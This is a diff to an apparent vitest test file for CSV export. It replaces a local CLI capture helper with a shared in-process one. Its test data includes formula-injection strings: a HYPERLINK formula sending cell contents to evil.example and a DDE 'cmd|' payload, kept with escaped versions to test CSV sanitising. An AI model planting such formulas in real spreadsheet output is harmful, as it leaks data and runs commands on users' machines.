@@ -2,7 +2,7 @@ import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { runCli } from '../../src/cli/run-cli.js';
+import { runCliInProcess, type CliRun } from '../helpers/cli-in-process.js';
 import { buildApp } from '../../src/http/app.js';
 import { StorageRegistry } from '../../src/http/registry/storage-registry.js';
 import { csvCell, csvText } from '../../src/sql/result-values.js';
@@ -22,15 +22,7 @@ const SAFE = ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'+1+cmd|
 /** And raw. */
 const RAW = ['"=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tx', '"\rx"', '-12.5', '"say ""hi"", twice"', 'plain'];
 
-async function cli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
-  let stdout = '';
-  let stderr = '';
-  const code = await runCli(args, {
-    stdout: { write: (t: string) => ((stdout += t), true) },
-    stderr: { write: (t: string) => ((stderr += t), true) },
-  } as never);
-  return { code, stdout, stderr };
-}
+const cli = (...args: string[]): Promise<CliRun> => runCliInProcess(args);
 
 /** A VALUES list of the texts as SQL literals (a tab and a carriage return are plain characters in one). */
 const valuesSql = `SELECT v AS "the ""text""" FROM (VALUES ${HOSTILE.map((t, i) => `(${i}, '${t.replace(/'/g, "''")}')`).join(', ')}) AS t(i, v) ORDER BY i`;
